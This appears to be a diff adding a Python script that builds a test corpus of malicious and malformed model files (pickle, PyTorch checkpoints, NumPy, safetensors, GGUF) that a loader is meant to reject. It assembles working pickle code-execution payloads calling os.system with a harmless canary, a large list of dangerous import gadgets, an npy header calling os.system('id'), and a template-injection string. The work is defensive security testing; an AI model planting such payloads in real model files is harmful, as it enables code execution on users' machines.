@@ -1,0 +1,658 @@
+"""Writes files that must be denied: malicious.py OUTPUT_DIRECTORY. Payloads are assembled byte by byte; nothing here runs one."""
+
+import gzip
+import io
+import json
+import lzma
+import pickle
+import struct
+import sys
+import tarfile
+import warnings
+import zipfile
+import zlib
+from pathlib import Path
+
+import numpy as np
+import onnx
+import torch
+from onnx import TensorProto, helper, numpy_helper
+
+warnings.filterwarnings("ignore")
+OUT = Path(sys.argv[1])
+CANARY = b"touch /tmp/davy-corpus-canary"
+
+
+def write(name, data):
+    path = OUT / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+
+
+# --- pickle fragments ------------------------------------------------------------------------------------------------
+
+
+def short(text):
+    data = text if isinstance(text, bytes) else text.encode()
+    return b"\x8c" + bytes([len(data)]) + data
+
+
+def uni(text):
+    data = text if isinstance(text, bytes) else text.encode()
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def glob(module, name):
+    return f"c{module}\n{name}\n".encode()
+
+
+def sglob(module, name):
+    return short(module) + short(name) + b"\x93"
+
+
+ARG = uni(CANARY)
+CALL = ARG + b"\x85R"
+
+# What a payload would import, from the lists of the research report: each must be refused by not being listed.
+GADGETS = """
+os.system posix.system nt.system subprocess.Popen subprocess.call subprocess.check_output builtins.eval builtins.exec builtins.compile
+builtins.getattr builtins.__import__ builtins.open builtins.apply builtins.breakpoint builtins.map builtins.frozenset.__class__
+commands.getoutput __builtin__.eval __builtin__.getattr pip.main pip._internal.main runpy.run_path runpy._run_code
+pty.spawn pdb.run bdb.Bdb.run code.InteractiveInterpreter.runcode doctest.debug_script profile.run cProfile.run cProfile.runctx trace.Trace.run
+timeit.timeit ensurepip._run_pip venv.create idlelib.pyshell.ModifiedInterpreter.runcode idlelib.debugobj.ObjectTreeItem.SetText
+lib2to3.pgen2.grammar.Grammar.loads asyncio.unix_events._UnixSubprocessTransport._start asyncio.create_subprocess_shell
+importlib.import_module importlib.util.spec_from_file_location pydoc.locate pydoc.pipepager pkgutil.resolve_name ctypes.CDLL
+ctypes.cdll.LoadLibrary _ctypes.dlopen operator.attrgetter operator.methodcaller operator.itemgetter _operator.attrgetter functools.partial
+functools.reduce itertools.starmap types.CodeType types.FunctionType marshal.loads pickle.loads _pickle.loads pickle.Unpickler dill.loads cloudpickle.loads
+shutil.rmtree shutil.copyfile pathlib.Path.write_text io.open io.FileIO _io.FileIO _io.open logging.FileHandler logging.config.listen
+distutils.file_util.write_file distutils.spawn.spawn urllib.request.urlopen urllib.request.urlretrieve http.client.HTTPConnection socket.socket
+socket.create_connection ssl.get_server_certificate ftplib.FTP smtplib.SMTP imaplib.IMAP4_stream requests.get uuid._get_command_stdout uuid._popen
+_osx_support._read_output _aix_support._read_cmd_output _pyrepl.pager.pipe_pager test.support.script_helper.assert_python_ok
+threading.Thread multiprocessing.Process multiprocessing.util.spawnv_passfds concurrent.futures.ProcessPoolExecutor _posixsubprocess.fork_exec
+_xxsubinterpreters.run_string _interpreters.exec sys.exit sys.setrecursionlimit sys.modules.get sys.settrace atexit.register weakref.finalize
+signal.signal resource.setrlimit gc.get_objects inspect.getattr_static typing.get_type_hints typing.ForwardRef._evaluate dataclasses._create_fn
+dataclasses.make_dataclass collections.namedtuple collections.defaultdict string.Formatter.format tempfile.mktemp webbrowser.open antigravity.geohash
+numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran._eval_length numpy.load numpy.core.multiarray._reconstruct
+numpy.fromfile numpy.memmap numpy.ndarray.tofile numpy.distutils.exec_command.exec_command joblib.load sklearn.utils.parallel.Parallel pandas.read_pickle
+pandas.eval torch.load torch.hub.load torch.hub.load_state_dict_from_url torch.jit.load torch.jit._script.script torch.ops.load_library torch.from_file
+torch.storage._load_from_bytes torch.storage.UntypedStorage.from_file torch.classes.load_library torch.utils.cpp_extension.load_inline
+torch.utils.collect_env.run torch.utils._config_module.ConfigModule.load_config torch.utils.bottleneck.__main__.run_cprofile
+torch._dynamo.guards.GuardBuilder.get torch._inductor.codecache.compile_file torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
+torch.utils.data.datapipes.utils.decoder.basichandlers torch.jit.unsupported_tensor_ops.execWrapper torch.distributed.rpc.rpc_sync
+torch.nn.modules.linear.Linear torch.nn.modules.container.Sequential torch.serialization.load torch.serialization.os.system torch._C._jit_compile
+torch.FloatStorage.from_file torch._utils.warnings.sys.modules torch.Tensor.numpy torch.Tensor.__reduce_ex__ torch.package.PackageImporter
+transformers.pipelines.pipeline tensorflow.keras.models.load_model keras.utils.get_file timm.create_model yaml.unsafe_load jinja2.Template
+setuptools.sandbox.run_setup PIL.ImageShow.show cffi.verifier.Verifier random._os.system linecache.os.system textwrap.re.sre_parse
+copyreg.add_extension copyreg._reconstructor copyreg.__newobj__ copy_reg._reconstructor collections.OrderedDict.update collections.abc.sys
+zipimport.zipimporter site.addsitedir sysconfig.os.system readline.read_init_file sqlite3.connect sqlite3.Connection.load_extension dbm.open shelve.open
+""".split()
+
+
+def each_gadget():
+    for gadget in GADGETS:
+        module, name = gadget.rsplit(".", 1)
+        head, rest = gadget.split(".", 1)
+        yield gadget, module, name, head, rest
+
+
+def pickles_of_gadgets():
+    for gadget, module, name, head, rest in each_gadget():
+        yield f"global-{gadget}", b"\x80\x02" + glob(module, name) + CALL + b"."
+        yield f"proto0-{gadget}", glob(module, name) + b"(V" + CANARY + b"\ntR."
+        yield f"stack-{gadget}", b"\x80\x04" + sglob(module, name) + CALL + b"."
+        yield f"dotted-{gadget}", b"\x80\x04" + sglob(head, rest) + CALL + b"."
+        yield f"inst-{gadget}", b"(V" + CANARY + b"\n" + f"i{module}\n{name}\n".encode() + b"."
+
+
+def techniques():
+    evil, good = glob("os", "system"), glob("collections", "OrderedDict")
+    p2, p4 = b"\x80\x02", b"\x80\x04"
+    tensor = p2 + good + b")R"
+    yield "import-only", p2 + glob("davy_side_file", "x") + b"."
+    yield "import-popped", p2 + evil + b"0N."
+    yield "import-in-tuple", p2 + evil + b"N\x86."
+    yield "obj", p2 + b"(" + evil + ARG + b"o."
+    yield "obj-pop", p2 + b"(" + evil + ARG + b"o0N."
+    yield "newobj", p2 + evil + ARG + b"\x85\x81."
+    yield "newobj-ex", p4 + sglob("os", "system") + ARG + b"\x85}\x92."
+    yield "build-setstate", p2 + glob("builtins", "getattr") + b")R}b."
+    yield "build-popen", p2 + evil + b")\x81}X\x04\x00\x00\x00argsNsb."
+    yield "ext1", p2 + b"\x82\x01)R."
+    yield "ext2", p2 + b"\x83\x01\x01)R."
+    yield "ext4", p2 + b"\x84\x01\x00\x00\x00)R."
+    yield "persid", b"Pos.system\n."
+    yield "binpersid", p2 + uni("storage") + glob("torch", "FloatStorage") + uni("0") + uni("cpu") + b"K\x01tQ."
+    yield "binpersid-tuple", p2 + b"(" + uni("storage") + glob("torch", "FloatStorage") + uni("0") + uni("cpu") + b"K\x01tQ."
+    yield "buffer", b"\x80\x05\x97."
+    yield "readonly-buffer", b"\x80\x05B\x01\x00\x00\x00a\x98."
+    yield "memo-names", p4 + short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93" + CALL + b"."
+    yield "memo-swap", p4 + short("collections") + b"\x94" + short("OrderedDict") + b"\x9400" + short("os") + b"q\x00" + short("system") + b"q\x0100h\x00h\x01\x93" + CALL + b"."
+    yield "memo-global", p2 + evil + b"q\x000h\x00" + CALL + b"."
+    yield "memo-missing", p4 + b"h\x05h\x06\x93" + CALL + b"."
+    yield "memo-huge-slot", p2 + b"Nr\xff\xff\xff\xff."
+    yield "memo-put-empty", p2 + b"q\x00N."
+    yield "dup-name", p4 + short("os") + b"2\x93."
+    yield "type-confusion", p4 + b"K\x01K\x02\x93."
+    yield "bytes-name", p4 + b"C\x02osC\x06system\x93" + CALL + b"."
+    yield "escaped-unicode", p4 + b"V\\u006fs\nV\\u0073ystem\n\x93" + CALL + b"."
+    yield "escaped-allowed", p4 + b"V\\u0063ollections\nVOrderedDict\n\x93)R."
+    yield "escaped-string", b"S'\\x6fs'\nS'system'\n\x93."
+    yield "quoted-escape", b"S'a\\nb'\n."
+    yield "dotted-allowed", p4 + sglob("collections", "OrderedDict.update") + b")R."
+    yield "dotted-split", p4 + sglob("torch", "_utils._rebuild_tensor_v2") + b")R."
+    yield "py2-alias", glob("__builtin__", "eval") + b"(V1\ntR."
+    yield "py2-commands", glob("commands", "getoutput") + b"(Vid\ntR."
+    yield "py2-in-proto4", p4 + sglob("__builtin__", "set") + b"]\x85R."
+    yield "cr-in-name", glob("collections", "OrderedDict\r") + b")R."
+    yield "blank-in-name", glob(" collections", "OrderedDict") + b")R."
+    yield "nul-in-name", glob("collections\0", "OrderedDict") + b")R."
+    yield "unicode-name", p4 + sglob("collections", "OrderedDi\u0441t") + b")R."
+    yield "trailing-pickle", p2 + b"N." + p2 + evil + CALL + b"."
+    yield "trailing-bytes", p2 + b"N." + b"\0" * 16
+    yield "trailing-newline", p2 + b"N.\n"
+    yield "concatenated-good", p2 + b"N." + p2 + b"N."
+    yield "carryover-memo", p2 + uni("os") + b"q\x00." + p4 + b"h\x00" + short("system") + b"\x93."
+    yield "broken-after-call", p2 + evil + CALL + b"\xff"
+    yield "no-stop", p2 + evil + CALL
+    yield "no-stop-good", p2 + b"}"
+    yield "hex-int", p2 + b"I0x10\n0" + evil + CALL + b"."
+    yield "hex-int-good", b"I0x10\n."
+    yield "underscore-int", b"I1_0\n."
+    yield "blank-int", b"I 10\n."
+    yield "hex-long", b"L0x10L\n."
+    yield "frame-straddle", p4 + b"\x95" + struct.pack("<Q", 3) + short("os") + short("system") + b"\x93" + CALL + b"."
+    yield "frame-straddle-good", p4 + b"\x95" + struct.pack("<Q", 3) + short("abc") + b"."
+    yield "frame-nested", p4 + b"\x95" + struct.pack("<Q", 11) + b"\x95" + struct.pack("<Q", 2) + b"N."
+    yield "frame-too-long", p4 + b"\x95" + struct.pack("<Q", 1 << 40) + b"N."
+    yield "frame-huge", p4 + b"\x95" + b"\xff" * 8 + b"N."
+    yield "frame-in-proto2", p2 + b"\x95" + struct.pack("<Q", 2) + b"N."
+    yield "frame-stop-inside", p4 + b"\x95" + struct.pack("<Q", 4) + b"N.N."
+    yield "proto-twice", p2 + p2 + b"N."
+    yield "proto-late", b"N0" + p2 + b"N."
+    yield "proto-6", b"\x80\x06N."
+    yield "proto-255", b"\x80\xffN."
+    yield "unknown-opcode", p2 + b"N\xf0."
+    yield "underflow", p2 + b"\x85."
+    yield "underflow-below-mark", p2 + b"N(\x85."
+    yield "empty-stop", p2 + b"."
+    yield "left-over", p2 + b"NN."
+    yield "open-mark", p2 + b"N(."
+    yield "pop-at-mark", p2 + b"(0N."
+    yield "no-mark", p2 + b"t."
+    yield "odd-dict", b"(I1\nd."
+    yield "odd-setitems", p2 + b"}(K\x01u."
+    yield "setitem-on-list", p2 + b"]K\x00K\x01s."
+    yield "setitem-on-object", p2 + glob("torch", "device") + uni("cpu") + b"\x85RK\x00K\x01s."
+    yield "append-on-dict", p2 + b"}Na."
+    yield "append-on-tuple", p2 + b")(NNe."
+    yield "additems-on-list", p4 + b"](K\x01\x90."
+    yield "build-on-list", p2 + b"]}b."
+    yield "build-on-dict", p2 + b"}}b."
+    yield "build-ordered-dunder", tensor + b"}" + uni("__class__") + evil.replace(b"os\nsystem", b"torch\nSize") + b"sb."
+    yield "build-ordered-tuple", tensor + b"}}\x86b."
+    yield "unhashable-key", p2 + b"}]Ns."
+    yield "unhashable-set", p4 + b"\x8f(]\x90."
+    yield "hash-bomb", p2 + b"})" + b"2\x86" * 60 + b"Ns."
+    yield "deep-key", p2 + b"}N" + b"\x85" * 20000 + b"Ns."
+    yield "mark-flood", p2 + b"(" * 20000 + b"N."
+    yield "long-line", b"V" + b"a" * (2 << 20) + b"\n."
+    yield "length-lie", p2 + b"X\xff\xff\xff\x7fabc."
+    yield "length-lie-8", p4 + b"\x8d" + b"\xff" * 8 + b"abc."
+    yield "length-negative", p2 + b"T\xff\xff\xff\xffabc."
+    yield "long4-negative", p2 + b"\x8b\xff\xff\xff\xff."
+    yield "bad-utf8", p2 + b"X\x02\x00\x00\x00\xff\xfe."
+    yield "latin1-bytestring", p2 + b"U\x02\xff\xfe."
+    for name, call in {
+        "encode-codec": glob("_codecs", "encode") + uni("x") + uni("zlib_codec") + b"\x86R",
+        "encode-rot13": glob("_codecs", "encode") + uni("x") + uni("rot13") + b"\x86R",
+        "bytearray-size": glob("builtins", "bytearray") + b"J\xff\xff\xff\x7f\x85R",
+        "device-name": glob("torch", "device") + uni("privateuse; x") + b"\x85R",
+        "layout-name": glob("torch.serialization", "_get_layout") + uni("torch.os") + b"\x85R",
+        "size-negative": glob("torch", "Size") + b"J\xff\xff\xff\xff\x85\x85R",
+        "call-dtype": glob("torch", "float32") + b")R",
+        "call-storage": glob("torch", "FloatStorage") + b"J\xff\xff\xff\x7f\x85R",
+        "call-untyped-storage": glob("torch.storage", "UntypedStorage") + b"J\xff\xff\xff\x7f\x85R",
+        "call-tensor": glob("torch", "Tensor") + b"J\xff\xff\xff\x7f\x85R",
+        "call-float-tensor": glob("torch", "FloatTensor") + b"J\xff\xff\xff\x7f\x85R",
+        "new-storage": glob("torch.storage", "TypedStorage") + b")\x81",
+        "rebuild-none": glob("torch._utils", "_rebuild_tensor_v2") + b"(NK\x00))\x89NtR",
+        "rebuild-from-numpy": glob("torch._utils", "_rebuild_device_tensor_from_numpy") + b"(NNNNtR",
+        "rebuild-type-function": glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + glob("builtins", "set") + glob("torch", "Tensor") + b")}tR",
+        "rebuild-type-evil": glob("torch._tensor", "_rebuild_from_type_v2") + b"(" + evil + glob("torch", "Tensor") + ARG + b"\x85}tR",
+        "wrapper-class": glob("torch._utils", "_rebuild_wrapper_subclass") + b"(" + glob("collections", "OrderedDict") + glob("torch", "float32") + b"))K\x00N" + uni("cpu") + b"\x89tR",
+        "args-list": glob("collections", "OrderedDict") + b"]R",
+        "complex-args": glob("builtins", "complex") + uni("1") + b"\x85R",
+        "counter-list": glob("collections", "Counter") + b"]\x85R",
+        "set-unhashable": glob("builtins", "set") + b"]]a\x85R",
+    }.items():
+        yield f"call-{name}", p2 + call + b"."
+    yield "truncated", pickle.dumps({"a": [1, 2, 3]}, 2)[:-4]
+    yield "spliced", pickle.dumps({"a": [1, 2, 3]}, 2)[:-1] + evil + CALL + b"0."
+    yield "doubly-nested", p2 + b"".join(b"]q" + bytes([i]) for i in range(3)) + evil + CALL + b"aaa."
+
+
+# --- containers ------------------------------------------------------------------------------------------------------
+
+EVIL = b"\x80\x02" + glob("os", "system") + CALL + b"."
+EVIL0 = glob("os", "system") + b"(V" + CANARY + b"\ntR."
+EVIL4 = b"\x80\x04" + sglob("os", "system") + CALL + b"."
+
+
+def checkpoint(state=None):
+    buffer = io.BytesIO()
+    torch.save(torch.nn.Linear(2, 3).state_dict() if state is None else state, buffer)
+    return buffer.getvalue()
+
+
+def records(data):
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return {name: z.read(name) for name in z.namelist()}
+
+
+def pack(entries, method=zipfile.ZIP_STORED):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", method) as z:
+        for name, data in entries.items() if isinstance(entries, dict) else entries:
+            z.writestr(zipfile.ZipInfo(name), data, method)
+    return buffer.getvalue()
+
+
+def torch_zip():
+    base = records(checkpoint())
+    root = next(iter(base)).split("/")[0]
+    with_pickle = lambda data: {**base, f"{root}/data.pkl": data}
+    for name, data in (("proto0", EVIL0), ("proto2", EVIL), ("proto4", EVIL4)):
+        yield f"payload-{name}", pack(with_pickle(data))
+        yield f"payload-{name}-deflated", pack(with_pickle(data), zipfile.ZIP_DEFLATED)
+    good = base[f"{root}/data.pkl"]
+    yield "appended", pack(with_pickle(good + EVIL))
+    yield "prepended", pack(with_pickle(b"\x80\x02" + glob("os", "system") + CALL + b"0" + good[2:]))
+    yield "inside", pack(with_pickle(good[:-1] + glob("os", "system") + CALL + b"0."))
+    yield "upper", pack({**{k.replace("data.pkl", "DATA.PKL"): v for k, v in base.items()}})
+    yield "upper-beside", pack({f"{root}/DATA.PKL": EVIL0, **base})
+    yield "duplicate-first", pack([(f"{root}/data.pkl", EVIL), *base.items()])
+    yield "duplicate-last", pack([*base.items(), (f"{root}/data.pkl", EVIL)])
+    yield "second-root", pack({**base, "other/data.pkl": EVIL})
+    yield "other-record", pack({**base, f"{root}/config.p": EVIL})
+    yield "other-pickle", pack({**base, f"{root}/evil.pkl": EVIL})
+    yield "storage-pickle", pack({**base, f"{root}/data/9": EVIL})
+    yield "missing-pickle", pack({k: v for k, v in base.items() if not k.endswith("data.pkl")})
+    yield "missing-storage", pack({k: v for k, v in base.items() if not k.endswith("data/0")})
+    yield "short-storage", pack({**base, f"{root}/data/0": base[f"{root}/data/0"][:-4]})
+    yield "long-storage", pack({**base, f"{root}/data/0": base[f"{root}/data/0"] + bytes(4)})
+    yield "byteorder", pack({**base, f"{root}/byteorder": b"middle"})
+    yield "version", pack({**base, f"{root}/version": b"3; import os"})
+    yield "no-root", pack({k.split("/", 1)[1]: v for k, v in base.items()})
+    yield "code-record", pack({**base, f"{root}/code/__torch__.py": b"def forward(self):\n  return torch.from_file('x')\n", f"{root}/constants.pkl": b"\x80\x02)."})
+    raw = bytearray(checkpoint())
+    at = raw.find(b"data/0") + len(b"data/0")
+    flipped = raw.copy()
+    payload = records(bytes(raw))[f"{root}/data/0"]
+    flipped[raw.find(payload)] ^= 1
+    yield "crc", bytes(flipped)
+    central = raw.rfind(b"PK\x01\x02")
+    for name, offset, value in (("encrypted", 8, 0x01), ("strange-flag", 8, 0x20), ("method", 10, 12)):
+        changed = raw.copy()
+        changed[central + offset] |= value
+        yield f"central-{name}", bytes(changed)
+    renamed = raw.copy()
+    local = renamed.find(f"{root}/data.pkl".encode())
+    renamed[local : local + len(root)] = b"x" * len(root)
+    yield "local-name", bytes(renamed)
+    yield "prefix", b"#!/bin/sh\n" + bytes(raw)
+    yield "prefix-pickle", EVIL + bytes(raw)
+    yield "prefix-pickle-good", b"\x80\x02N." + bytes(raw)
+    yield "suffix", bytes(raw) + EVIL
+    yield "truncated", bytes(raw[:-30])
+    yield "comment", bytes(raw[:-2]) + struct.pack("<H", len(EVIL)) + EVIL
+    del at
+
+
+def rewrite(data, old, new):
+    assert old in data, old
+    return data.replace(old, new, 1)
+
+
+def tensors():
+    """The tensor metadata lies: sizes, strides, offsets, counts."""
+    base = records(checkpoint({"x": torch.arange(4.0)}))
+    root = next(iter(base)).split("/")[0]
+    good = base[f"{root}/data.pkl"]
+    size = b"K\x04\x85"
+    yield "size", rewrite(good, size, b"K\x05\x85")
+    yield "size-huge", rewrite(good, size, b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f\x85")
+    yield "size-negative", rewrite(good, size, b"J\xff\xff\xff\xff\x85")
+    yield "numel", rewrite(good, b"cpuq\x06K\x04" if b"cpuq\x06K\x04" in good else b"cpuq\x05K\x04", b"cpuq\x06K\x40")
+    marker = good.index(b"Q") + 1
+    yield "offset", good[:marker] + b"K\x01" + good[marker + 2 :]
+    yield "offset-negative", good[:marker] + b"J\xff\xff\xff\xff" + good[marker + 2 :]
+    yield "stride", rewrite(good, b"K\x01\x85", b"K\x02\x85")
+    yield "stride-negative", rewrite(good, b"K\x01\x85", b"J\xff\xff\xff\xff\x85")
+    yield "class", rewrite(good, b"FloatStorage", b"LongStorage")
+    yield "key", rewrite(good, b"X\x01\x00\x00\x000", b"X\x05\x00\x00\x00../..")
+    yield "location", rewrite(good, b"X\x03\x00\x00\x00cpu", b"X\x05\x00\x00\x00cpu;x")
+    yield "hooks", rewrite(good, b")R", b")RK\x01K\x02s")
+
+
+def legacy():
+    buffer = io.BytesIO()
+    torch.save({"x": torch.arange(4.0)}, buffer, _use_new_zipfile_serialization=False)
+    data = buffer.getvalue()
+    source = io.BytesIO(data)
+    parts, ends = [], [0]
+    for _ in range(5):  # find the five streams by their opcodes, without loading them
+        import pickletools
+
+        for _ in pickletools.genops(source):
+            pass
+        ends.append(source.tell())
+    parts = [data[a:b] for a, b in zip(ends, ends[1:])]
+    storages = data[ends[-1] :]
+    for i in range(5):
+        yield f"payload-{i}", b"".join([*parts[:i], EVIL, *parts[i + 1 :]]) + storages
+        yield f"call-then-value-{i}", b"".join([*parts[:i], parts[i][:2] + glob("os", "system") + CALL + b"0" + parts[i][2:], *parts[i + 1 :]]) + storages
+    magic = b"\x80\x02" + glob("builtins", "eval") + uni("0x1950a86a20f9469cfc6c") + b"\x85R."
+    yield "magic-eval", magic + b"".join(parts[1:]) + storages
+    yield "protocol", parts[0] + b"\x80\x02M\xe8\x03." + b"".join(parts[2:]) + storages
+    yield "extra-pickle", data + EVIL
+    yield "extra-bytes", data + b"\0"
+    yield "short", data[:-1]
+    yield "count", b"".join(parts) + struct.pack("<q", 5) + storages[8:]
+    yield "count-negative", b"".join(parts) + struct.pack("<q", -1) + storages[8:]
+    yield "no-keys", b"".join(parts[:4]) + b"\x80\x02]." 
+    yield "unknown-key", b"".join(parts[:4]) + b"\x80\x02]" + uni("1") + b"a." + storages
+    yield "magic-only", parts[0]
+
+
+def tars():
+    def tar(entries, mode="w:", kind=tarfile.PAX_FORMAT):
+        buffer = io.BytesIO()
+        with tarfile.open(fileobj=buffer, mode=mode, format=kind) as t:
+            for name, data in entries:
+                info = tarfile.TarInfo(name)
+                info.size = len(data)
+                t.addfile(info, io.BytesIO(data))
+        return buffer.getvalue()
+
+    entries = [("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00."), ("pickle", EVIL)]
+    for extension in ("pt", "pth", "bin", "ckpt", "tar", "dat"):
+        yield f"torch.{extension}", tar(entries)
+    yield "old.pt", tar(entries, kind=tarfile.USTAR_FORMAT)
+    yield "gz.pt", tar(entries, "w:gz")
+
+
+def numpy_files():
+    def npy(header, data=b"", version=(1, 0)):
+        text = header.encode("latin1") + b"\n"
+        length = struct.pack("<H" if version[0] == 1 else "<I", len(text))
+        return b"\x93NUMPY" + bytes(version) + length + text + data
+
+    yield "object.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL)
+    yield "object-v2.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL, (2, 0))
+    yield "object-field.npy", npy("{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }", EVIL)
+    yield "object-nested.npy", npy("{'descr': [('a', [('b', '|O', (2,))])], 'fortran_order': False, 'shape': (1,), }", EVIL)
+    yield "object-8.npy", npy("{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }", EVIL)
+    yield "not-npy.npy", EVIL
+    yield "header-call.npy", npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }")
+    yield "header-escape.npy", npy("{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }")
+    yield "trailing.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4) + EVIL)
+    yield "short.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (9,), }", bytes(4))
+    yield "negative.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-1,), }", bytes(4))
+    yield "overflow.npy", npy(f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({1 << 62}, 4), }}", b"")
+    yield "extra-key.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (), 'x': 1, }", bytes(4))
+    yield "twice-key.npy", npy("{'descr': '<f4', 'descr': '|O', 'shape': (), }", bytes(4))
+    yield "version.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (), }", bytes(4), (9, 0))
+    yield "deep.npy", npy("{'descr': " + "[" * 500 + "]" * 500 + ", 'fortran_order': False, 'shape': (), }", bytes(4))
+    plain = io.BytesIO()
+    np.save(plain, np.ones(3))
+    objects = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL)
+    yield "object.npz", pack({"a.npy": plain.getvalue(), "b.npy": objects})
+    yield "object-deflated.npz", pack({"b.npy": objects}, zipfile.ZIP_DEFLATED)
+    yield "pickle.npz", pack({"a.npy": plain.getvalue(), "b.pkl": EVIL})
+    yield "raw-pickle.npz", pack({"a.npy": EVIL})
+
+
+def safetensors_files():
+    def st(header, data=b"", pad=b""):
+        text = (header if isinstance(header, bytes) else json.dumps(header).encode()) + pad
+        return struct.pack("<Q", len(text)) + text + data
+
+    x = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
+    good = st({"x": x}, bytes(8))
+    yield "not-safetensors", EVIL
+    yield "torch", checkpoint()
+    yield "truncated", good[:-1]
+    yield "trailing", good + EVIL
+    yield "header-length", struct.pack("<Q", 1 << 40) + good[8:]
+    yield "header-length-max", b"\xff" * 8 + good[8:]
+    yield "duplicate", st(b'{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8))
+    yield "duplicate-escaped", st(b'{"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"\\u0078":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8))
+    yield "duplicate-inner", st(b'{"x":{"dtype":"F32","dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8))
+    yield "overlap", st({"x": x, "y": {**x, "data_offsets": [4, 12]}}, bytes(12))
+    yield "same-range", st({"x": x, "y": x}, bytes(8))
+    yield "hole", st({"x": x, "y": {**x, "data_offsets": [16, 24]}}, bytes(24))
+    yield "hole-first", st({"x": {**x, "data_offsets": [8, 16]}}, bytes(16))
+    yield "reversed", st({"x": {**x, "data_offsets": [8, 0]}}, bytes(8))
+    yield "size", st({"x": {**x, "shape": [3]}}, bytes(8))
+    yield "overflow", st({"x": {**x, "shape": [1 << 62, 8]}}, bytes(8))
+    yield "negative", st({"x": {**x, "shape": [-2]}}, bytes(8))
+    yield "fraction", st(b'{"x":{"dtype":"F32","shape":[2.5],"data_offsets":[0,8]}}', bytes(8))
+    yield "dtype", st({"x": {**x, "dtype": "OBJECT"}}, bytes(8))
+    yield "dtype-proto", st({"x": {**x, "dtype": "constructor"}}, bytes(8))
+    yield "metadata", st({"__metadata__": {"a": 1}, "x": x}, bytes(8))
+    yield "metadata-list", st({"__metadata__": [], "x": x}, bytes(8))
+    yield "unknown-field", st({"x": {**x, "code": "import os"}}, bytes(8))
+    yield "padding", st({"x": x}, bytes(8), b"\0\0")
+    yield "leading-blank", st(b" " + json.dumps({"x": x}).encode(), bytes(8))
+    yield "not-object", st(b"[]")
+    yield "utf8", st(b'{"\xff":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', bytes(8))
+    yield "deep", st(b'{"x":' + b"[" * 5000 + b"]" * 5000 + b"}")
+    yield "zip-tail", st({"x": {**x, "dtype": "U8", "shape": [len(checkpoint())], "data_offsets": [0, len(checkpoint())]}}, pack({"a/data.pkl": EVIL}).ljust(0)) if False else st({"x": {"dtype": "U8", "shape": [len(pack({"a/data.pkl": EVIL}))], "data_offsets": [0, len(pack({"a/data.pkl": EVIL}))]}}, pack({"a/data.pkl": EVIL}))
+
+
+def gguf_files():
+    def text(value):
+        return struct.pack("<Q", len(value)) + value
+
+    def gguf(entries=(), tensors=(), data=b"", version=3, counts=None):
+        head = b"GGUF" + struct.pack("<IQQ", version, *(counts or (len(tensors), len(entries)))) + b"".join(entries) + b"".join(tensors)
+        return head.ljust(-(-len(head) // 32) * 32, b"\0") + data
+
+    tensor = text(b"w") + struct.pack("<IQIQ", 1, 8, 0, 0)
+    yield "version", gguf(version=1)
+    yield "version-big", gguf(version=1 << 24)
+    yield "tensor-count", gguf(counts=(1 << 60, 0))
+    yield "entry-count", gguf(counts=(0, 1 << 60))
+    yield "count-overflow", gguf(counts=((1 << 64) - 1, (1 << 64) - 1))
+    yield "key-length", gguf([struct.pack("<Q", 1 << 63) + b"x"])
+    yield "array-length", gguf([text(b"k") + struct.pack("<IIQ", 9, 4, 1 << 62)])
+    yield "array-depth", gguf([text(b"k") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000 + struct.pack("<IQB", 0, 1, 1)])
+    yield "value-type", gguf([text(b"k") + struct.pack("<IQ", 99, 0)])
+    yield "duplicate-key", gguf([text(b"k") + struct.pack("<IB", 0, 1)] * 2)
+    yield "alignment", gguf([text(b"general.alignment") + struct.pack("<II", 4, 0)])
+    yield "alignment-odd", gguf([text(b"general.alignment") + struct.pack("<II", 4, 24)])
+    yield "template", gguf([text(b"tokenizer.chat_template") + struct.pack("<I", 8) + text(b"{{ ''.__class__.__mro__[1].__subclasses__() }}")])
+    yield "dimensions", gguf(tensors=[text(b"w") + struct.pack("<I", 1 << 30)])
+    yield "shape-overflow", gguf(tensors=[text(b"w") + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0)], data=bytes(32))
+    yield "tensor-type", gguf(tensors=[text(b"w") + struct.pack("<IQIQ", 1, 8, 77, 0)], data=bytes(32))
+    yield "offset", gguf(tensors=[text(b"w") + struct.pack("<IQIQ", 1, 8, 0, 1 << 40)], data=bytes(32))
+    yield "unaligned", gguf(tensors=[text(b"w") + struct.pack("<IQIQ", 1, 8, 0, 4)], data=bytes(64))
+    yield "short", gguf(tensors=[tensor], data=bytes(16))
+    yield "trailing", gguf(tensors=[tensor], data=bytes(32) + bytes(32) + EVIL)
+    yield "overlap", gguf(tensors=[tensor, text(b"v") + struct.pack("<IQIQ", 1, 8, 0, 0)], data=bytes(32))
+    yield "duplicate-tensor", gguf(tensors=[tensor, tensor], data=bytes(64))
